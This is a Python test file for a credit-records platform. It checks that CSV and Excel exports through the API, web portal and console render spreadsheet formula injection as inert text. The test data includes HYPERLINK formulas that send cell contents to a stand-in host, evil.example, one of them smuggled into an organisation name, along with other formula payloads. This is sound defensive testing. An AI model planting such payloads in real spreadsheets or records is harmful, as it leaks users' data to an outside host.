"""Formula injection replayed through every export: a department pushes text that a
spreadsheet would run, gets some rows stored and some rejected, and every CSV and Excel
file the platform hands out (records, rejections, access events, through the API, the
portal and the console) carries it as text, numbers still numbers."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from tests.accounts import DEMO_PASSWORD, ENTERPRISE_CODE
from tests.consent.world import World
from tests.web.conftest import csrf_of, sign_in
from xinyidai.cli import app as cli
from xinyidai.iam import service as iam_service
from xinyidai.records.models import CreditRecord
from xinyidai.supervision.service import demo as supervision_demo

Auth = Callable[[str], dict[str, str]]

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
CATEGORY = "tax_arrears"  # the tax department's own category
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?org="&A1,"bank")'
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def _row(n: int, tax_type: str, amount: str = "1200.50") -> dict[str, Any]:
    return {
        "credit_code": ENTERPRISE_CODE,
        "enterprise_name": "南宁示范科技有限公司",
        "tax_type": tax_type,
        "amount": amount,
        "announced_on": f"2025-01-{n + 1:02d}",
    }


def _push(client: TestClient, auth: Auth, rows: list[dict[str, Any]], key: str) -> dict[str, Any]:
    response = client.post(
        "/api/v1/ingest/records",
        params={"category": CATEGORY},
        content=json.dumps(rows, ensure_ascii=False),
        headers=auth("provider-tax") | {"Idempotency-Key": key, "Content-Type": "application/json"},
    )
    assert response.status_code == 201, response.text
    return dict(response.json())


def _csv_cells(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def _assert_no_formula(rows: Iterable[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r" or PLAIN_NUMBER.fullmatch(cell), cell


def _assert_text_workbook(content: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    values = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
        values.append([cell.value for cell in row])
    return values


def test_a_stored_formula_reaches_the_records_export_as_text(
    client: TestClient, auth: Auth, world: World
) -> None:
    batch = _push(client, auth, [_row(n, value) for n, value in enumerate(FORMULAS)], "rec-1")
    assert batch["accepted"] == len(FORMULAS)
    exported = client.get(
        f"/api/v1/enterprises/{ENTERPRISE_CODE}/records",
        params={"format": "csv", "category": CATEGORY},
        headers=auth("bank"),
    )
    assert exported.status_code == 200, exported.text
    rows = _csv_cells(exported.content)
    _assert_no_formula(rows)
    values = [row[-1] for row in rows[1:] if row[-2] == "tax_type"]
    # text fields are stored stripped: the tab and carriage return ones lose their blank
    assert sorted(values) == sorted("'" + f.strip() for f in FORMULAS)
    amounts = {row[-1] for row in rows[1:] if row[-2] == "amount"}
    versions = {row[3] for row in rows[1:]}
    assert (amounts, versions) == ({"1200.50"}, {"1"})  # numbers stay numbers


def test_rejected_formulas_download_as_text_and_come_back_exactly(
    client: TestClient, auth: Auth, world: World, session: Session
) -> None:
    rows = [_row(n, value, amount="-2+3") for n, value in enumerate(FORMULAS)]
    for row in rows:
        row["@SUM(A1)"] = "+1+1"  # a column of the pushed object's own
    batch = _push(client, auth, rows, "rej-1")
    assert (batch["accepted"], batch["rejected"]) == (0, len(FORMULAS))
    url = f"/api/v1/ingest/batches/{batch['batch_id']}/rejections"

    sign_in(client, "provider-tax")
    for download in (
        client.get(url, params={"format": "csv"}, headers=auth("provider-tax")),
        client.get(f"/data/batches/{batch['batch_id']}/rejections.csv"),
    ):
        assert download.status_code == 200, download.text
        cells = _csv_cells(download.content)
        _assert_no_formula(cells)
        assert "'@SUM(A1)" in cells[0]
        assert {row[cells[0].index("tax_type")] for row in cells[1:]} == {"'" + f for f in FORMULAS}
        assert {row[1] for row in cells[1:]} == {str(n) for n in range(len(FORMULAS))}

    for download in (
        client.get(url, params={"format": "xlsx"}, headers=auth("provider-tax")),
        client.get(f"/data/batches/{batch['batch_id']}/rejections.xlsx"),
    ):
        assert download.status_code == 200
        values = _assert_text_workbook(download.content)
        assert "@SUM(A1)" in values[0]
        column = values[0].index("tax_type")
        # XML reads a carriage return in text as a line feed
        assert {row[column] for row in values[1:]} == {f.replace("\r", "\n") for f in FORMULAS}
        assert {row[1] for row in values[1:]} == set(range(len(FORMULAS)))  # numbers

    # the CSV comes back fixed: the quotes are taken away, the formulas stored as text
    cells = _csv_cells(client.get(f"/data/batches/{batch['batch_id']}/rejections.csv").content)
    amount = cells[0].index("amount")
    for row in cells[1:]:
        row[amount] = "100.00"
    fixed = io.StringIO()
    csv.writer(fixed).writerows(cells)
    page = client.get(f"/data/batches/{batch['batch_id']}")
    response = client.post(
        f"/data/batches/{batch['batch_id']}/resubmit",
        data={"csrf_token": csrf_of(page.text)},
        files={"file": ("fixed.csv", fixed.getvalue().encode("utf-8"))},
        follow_redirects=False,
    )
    assert response.status_code == 303, response.text
    session.expire_all()
    stored = session.scalars(select(CreditRecord).where(CreditRecord.category == CATEGORY)).all()
    assert sorted(r.data["tax_type"] for r in stored) == sorted(f.strip() for f in FORMULAS)


def test_a_formula_in_an_access_event_is_exported_as_text(
    client: TestClient, auth: Auth, world: World, session: Session, tmp_path: Path
) -> None:
    bank = iam_service.create_organization(
        session,
        kind="institution",
        name=HOSTILE_NAME,
        actor="test",
        state="active",
        institution_type="bank",
        licence_number="B0000H000000099",
    )
    # fit to read: the confidentiality agreement signed, an assessment passed
    supervision_demo.certify(session, bank)
    iam_service.create_user(
        session,
        organization=bank,
        username="bank9",
        display_name="bank9",
        password=DEMO_PASSWORD,
        actor="test",
        role="admin",
    )
    session.commit()
    read = client.get(f"/api/v1/enterprises/{ENTERPRISE_CODE}/records", headers=auth("bank9"))
    assert read.status_code == 200, read.text  # an access event in the bank's name

    sign_in(client, "auditor")
    api = client.get("/api/v1/audit/events", params={"format": "csv"}, headers=auth("auditor"))
    portal = client.get("/audit/events.csv")
    console = CliRunner().invoke(cli, ["audit", "events", "--csv", str(tmp_path / "events.csv")])
    assert console.exit_code == 0, console.output
    for content in (api.content, portal.content, (tmp_path / "events.csv").read_bytes()):
        cells = _csv_cells(content)
        _assert_no_formula(cells)
        names = [row[cells[0].index("organization_name")] for row in cells[1:]]
        assert "'" + HOSTILE_NAME in names
